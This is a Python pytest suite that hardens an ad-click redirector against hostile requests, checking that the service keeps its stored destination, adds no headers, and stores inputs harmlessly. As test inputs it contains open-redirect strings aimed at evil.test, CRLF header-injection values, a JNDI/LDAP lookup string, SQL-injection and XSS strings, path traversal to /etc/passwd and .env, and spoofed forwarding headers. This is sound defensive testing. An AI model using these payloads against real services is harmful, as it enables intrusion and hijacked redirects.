"""Hostile visits: the destination stands, one header block comes back, and what is stored is harmless."""

import json
import random
import time
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from clicks.click_id import parse_click_id
from clicks.record import Click
from tests.redirector.serving import APP_STORE, PLAY, Redirector, counted, stored_clicks
from tests.redirector.wire import (
    ANDROID,
    DESKTOP,
    IPHONE,
    Reply,
    ask,
    connected,
    exchange,
    parse_replies,
    read_all,
    request,
)

EVIL = "evil.test"
MACROS = ("campaign_id", "campaign_name", "adgroup_name", "ad_name", "placement", "callback", "ip", "ua", "ttclid")
HEADERS = {
    "cache-control",
    "connection",
    "content-length",
    "date",
    "location",
    "referrer-policy",
    "set-cookie",
    "x-robots-tag",
}


def assert_is_safe(reply: Reply, stored_url: str = PLAY) -> None:
    """A 302 to the stored destination, with no header that is not ours."""
    assert reply.status == 302
    assert {name for name, _ in reply.headers} <= HEADERS
    assert len(reply.headers) == len({name for name, _ in reply.headers})
    sent, stored = urlsplit(reply.location), urlsplit(stored_url)
    assert (sent.scheme, sent.netloc, sent.path, sent.fragment) == (stored.scheme, stored.netloc, stored.path, "")
    assert parse_qs(sent.query).get("id") == parse_qs(stored.query).get("id")
    assert set(parse_qs(sent.query)) <= {"id", "referrer", "ct"}


def only_click(redirector: Redirector) -> Click:
    (click,) = stored_clicks(redirector.redis_url)
    return click


@pytest.mark.parametrize("name", ["url", "redirect", "next", "redir_url", "dest", "destination", "return_to", "u", "r"])
def test_no_parameter_chooses_the_destination(redirector: Redirector, name: str) -> None:
    assert_is_safe(ask(redirector.port, f"/spring?{name}=https://{EVIL}/"))
    assert_is_safe(ask(redirector.port, f"/spring?{name}=https://{EVIL}/", user_agent=IPHONE), APP_STORE)


@pytest.mark.parametrize("name", MACROS)
@pytest.mark.parametrize(
    "value",
    [
        f"//{EVIL}", f"/\\{EVIL}", f"https:{EVIL}", f"%2f%2f{EVIL}", f"@{EVIL}", f".{EVIL}", ":8080", "#x", "%23x",
        "?a=b%26pid=hijack", "%26id%3Dcom.evil.app", "&id=com.evil.app", "javascript:alert(1)",
        "data:text/html,%3Cscript%3E", "{{7*7}}", "${jndi:ldap://evil.test/a}", "%25s%25n", "__proto__",
        "'%20OR%201=1--",
        "%F0%9F%92%A9", "1e308", "-0", "9223372036854775808", "NaN", "%ff%fe", "%c0%ae%c0%ae/",
    ],
)  # fmt: skip
def test_a_macros_value_stays_a_value(redirector: Redirector, name: str, value: str) -> None:
    target = f"/spring?{name}={value.partition('#')[0]}"
    for user_agent, url in ((ANDROID, PLAY), (IPHONE, APP_STORE)):
        assert_is_safe(ask(redirector.port, target, user_agent=user_agent), url)
    assert {click.query for click in stored_clicks(redirector.redis_url)} == {target.partition("?")[2]}


@pytest.mark.parametrize(
    "value", ["{{7*7}}", "${jndi:ldap://x}", "%s%n", "<script>alert(1)</script>", "' OR 1=1--", "1e308", "NaN", "💩"]
)
def test_what_looks_like_code_is_stored_as_it_was_written(redirector: Redirector, value: str) -> None:
    ask(redirector.port, f"/spring?campaign_name={quote(value)}")
    assert only_click(redirector).campaign_name == value


@pytest.mark.parametrize(
    "where", ["/spring?campaign_name=a{}", "/spring?x{}=1", "/spring?ttclid=a{}", "/spr{}ing", "/{}"]
)
@pytest.mark.parametrize(
    "split", ["%0d%0aSet-Cookie:x=1", "%0aSet-Cookie:x=1", "%E5%98%8A%E5%98%8DSet-Cookie:x=1", "%00"]
)
def test_no_input_adds_a_header(redirector: Redirector, where: str, split: str) -> None:
    reply = ask(redirector.port, where.format(split))
    if where.startswith("/spring?"):
        assert_is_safe(reply)
    else:
        assert reply.status == 404
        assert "x=1" not in dict(reply.headers).get("set-cookie", "")


@pytest.mark.parametrize("raw", [b"\r", b"\n", b"\x00", b"\r\nX: 1"], ids=["CR", "LF", "NUL", "CRLF"])
def test_raw_control_bytes_in_the_request_line_are_malformed(redirector: Redirector, raw: bytes) -> None:
    replies = exchange(redirector.port, b"GET /spring?a=" + raw + b"b HTTP/1.1\r\nHost: t\r\n\r\n")
    assert [(reply.status, reply.header("connection")) for reply in replies] == [(400, "close")]
    assert stored_clicks(redirector.redis_url) == []


@pytest.mark.parametrize("code", [*range(0x20), 0x7F])
def test_control_characters_are_not_stored(redirector: Redirector, code: int) -> None:
    assert_is_safe(ask(redirector.port, f"/spring?ad_name=a%{code:02x}b&campaign_name=%{code:02X}c"))
    click = only_click(redirector)
    assert (click.ad_name, click.campaign_name) == ("ab", "c")


def test_of_two_ttclids_the_first_counts_everywhere(redirector: Redirector) -> None:
    ask(redirector.port, "/spring?ttclid=first&ttclid=second")
    assert only_click(redirector).ttclid == "first"


@pytest.mark.parametrize("query", ["ttclid[]=a", "ttclid=", "ttclid", "ttclid=__CLICKID__"])
def test_a_ttclid_that_is_none_is_absent(redirector: Redirector, query: str) -> None:
    assert_is_safe(ask(redirector.port, f"/spring?{query}"))
    click = only_click(redirector)
    assert click.ttclid is None
    assert click.macros_unexpanded == (("ttclid",) if "CLICKID" in query else ())


@pytest.mark.parametrize("value", ["a" * 5_000, "a" * 1_001, "%00" * 10, "%C3%A9" * 10])
def test_a_ttclid_out_of_bounds_is_absent_counted_and_never_cut(redirector: Redirector, value: str) -> None:
    before = redirector.metric("signalpost_ttclids_refused_total")
    assert_is_safe(ask(redirector.port, f"/spring?ttclid={value}"))
    assert only_click(redirector).ttclid is None
    deadline = time.monotonic() + 5
    while redirector.metric("signalpost_ttclids_refused_total") == before:
        assert time.monotonic() < deadline
        time.sleep(0.05)


def test_a_ttclid_with_spaces_and_quotes_is_kept_byte_for_byte(redirector: Redirector) -> None:
    value = "a b\"c'd<e>" * 27
    ask(redirector.port, f"/spring?ttclid={quote(value)}")
    assert only_click(redirector).ttclid == value


def test_thousands_of_parameters_are_one_click(redirector: Redirector) -> None:
    assert_is_safe(ask(redirector.port, "/spring?" + "a&" * 4_000 + "ad_id=1"))
    assert only_click(redirector).ad_id == "1"


@pytest.mark.parametrize(
    "header",
    [
        "X-Forwarded-Host: evil.test", "X-Forwarded-Proto: javascript", "X-Forwarded-Prefix: /evil",
        "X-Original-URL: /off", "X-Rewrite-URL: /off", "X-HTTP-Method-Override: POST", "X-HTTP-Method: DELETE",
        "Forwarded: for=1.2.3.4;host=evil.test",
        "X-Real-IP: 1.2.3.4", "True-Client-IP: 1.2.3.4", "CF-Connecting-IP: 1.2.3.4", "Client-IP: 1.2.3.4",
    ],
)  # fmt: skip
def test_headers_that_rewrite_requests_elsewhere_say_nothing_here(redirector: Redirector, header: str) -> None:
    assert_is_safe(ask(redirector.port, "/spring", header))
    assert only_click(redirector).ip == "127.0.0.1"


def test_no_location_and_no_page_takes_its_host_from_the_request(redirector: Redirector) -> None:
    for path, status in (("/bare/stores", 200), ("/bare", 302), ("/bare/x", 404)):
        lines = (
            "Host: evil.test",
            "X-Forwarded-Host: evil.test",
            f"User-Agent: {DESKTOP}",
            "Connection: close",
            "",
            "",
        )
        (reply,) = exchange(redirector.port, "\r\n".join((f"GET {path} HTTP/1.1", *lines)).encode())
        assert reply.status == status
        assert EVIL not in str(reply)


@pytest.mark.parametrize(
    "target", [f"http://{EVIL}/spring", f"https://{EVIL}:8080/spring?x=1", f"http://a@{EVIL}/spring"]
)
def test_an_absolute_request_target_changes_no_destination(redirector: Redirector, target: str) -> None:
    reply = ask(redirector.port, target)
    assert EVIL not in str(reply)
    assert reply.status == 400 or reply.location.startswith(PLAY)


@pytest.mark.parametrize(
    "path",
    [
        "/..%2f..%2fetc%2fpasswd", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/%00", "/spring%00",
        "/spring/../off", "/spring;x=1", "/spring%3Fx", "/\\spring", "/%c0%af", "/%ff", "/'%20OR%201=1--",
        "/%F0%9F%92%A9", "/" + "a" * 5_000, f"//{EVIL}/", f"//{EVIL}/..", "/off/stores",
        "/.git/config", "/.env", "/metrics",
    ],
)  # fmt: skip
def test_a_path_that_is_no_link_is_not_found(redirector: Redirector, path: str) -> None:
    reply = ask(redirector.port, path)
    assert reply.status == 404
    assert b"Traceback" not in reply.body
    assert reply.header("location") is None


def test_every_miss_is_answered_with_the_same_bytes(redirector: Redirector) -> None:
    bodies = {ask(redirector.port, f"/{slug}").body for slug in ("off", "a", "spring2", "x" * 500, "%00", "a/b/c")}
    assert len(bodies) == 1


def test_trace_echoes_nothing(redirector: Redirector) -> None:
    reply = ask(redirector.port, "/spring?canary=1", "X-Secret: canary", method="TRACE")
    assert reply.status == 405
    assert b"canary" not in reply.body


def test_answers_are_not_for_caches_and_differ(redirector: Redirector) -> None:
    replies = [ask(redirector.port, "/spring?ttclid=same") for _ in range(2)]
    assert [reply.header("cache-control") for reply in replies] == ["no-store", "no-store"]
    assert len({reply.click_id for reply in replies}) == 2


def test_click_ids_of_one_address_share_no_guessable_part(redirector: Redirector) -> None:
    parsed = [parse_click_id(ask(redirector.port, "/spring").click_id) for _ in range(200)]
    randoms = {click_id.random for click_id in parsed if click_id is not None}
    assert len(randoms) == 200
    assert len({value[:1] for value in randoms}) > 50


def test_nothing_of_a_visit_reaches_the_log(redirector: Redirector) -> None:
    canary = "canary7f3a"
    forged = "%0a{%22level%22:%22error%22}%1b[31m"
    ask(redirector.port, f"/spring?ttclid={canary}&ad_name={canary}{forged}", f"Cookie: _ttp={canary}")
    ask(redirector.port, f"/{canary}{forged}", user_agent=f"{canary} UA")
    exchange(redirector.port, f"GET /spring?{canary} HTTP/1.1\r\nbroken {canary}\r\n\r\n".encode())
    exchange(redirector.port, request(f"/{canary}" + "a" * 9_000))
    ask(redirector.port, f"/spring?{canary}", "Connection: Upgrade", "Upgrade: websocket")
    log = redirector.log.read_text()
    assert canary not in log
    assert "127.0.0.1:" not in log.replace(f"127.0.0.1:{redirector.port}", "")
    for line in log.splitlines():
        json.loads(line)


def test_a_flood_from_one_address_is_redirected_and_stored(redirector: Redirector) -> None:
    def flood(number: int) -> list[int]:
        requests = [request(f"/spring?ttclid=t{number}-{n}") for n in range(99)]
        return [reply.status for reply in exchange(redirector.port, *requests, request("/spring", "Connection: close"))]

    with ThreadPoolExecutor(8) as pool:
        statuses = [status for answers in pool.map(flood, range(20)) for status in answers]
    assert statuses == [302] * 2_000
    deadline = time.monotonic() + 10
    visits = counted(redirector.redis_url)
    while visits.total() < 2_000 and time.monotonic() < deadline:
        time.sleep(0.1)
        visits += counted(redirector.redis_url)
    assert len(stored_clicks(redirector.redis_url)) == visits.total() == 2_000


def test_guessing_slugs_is_answered_evenly(redirector: Redirector) -> None:
    replies = exchange(
        redirector.port, *[request(f"/guess-{n}") for n in range(500)], request("/x", "Connection: close")
    )
    assert {reply.status for reply in replies} == {404}
    assert len({reply.body for reply in replies}) == 1


def test_any_bytes_at_all_are_refused_or_ignored_and_the_next_click_is_answered(redirector: Redirector) -> None:
    rng = random.Random(20261120)
    seeds = [request("/spring?ttclid=a", "Cookie: _ttp=x"), request("/unknown", method="POST", user_agent=None)]
    for _ in range(300):
        raw = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 8)):
            where = rng.randrange(len(raw))
            raw[where : where + rng.randrange(3)] = rng.randbytes(rng.randrange(3))
        with connected(redirector.port) as connection:
            connection.sendall(raw + b"\r\n\r\n")
            connection.shutdown(1)
            for reply in parse_replies(read_all(connection)):
                assert reply.status in {302, 400, 404, 405}
    assert_is_safe(ask(redirector.port, "/spring"))
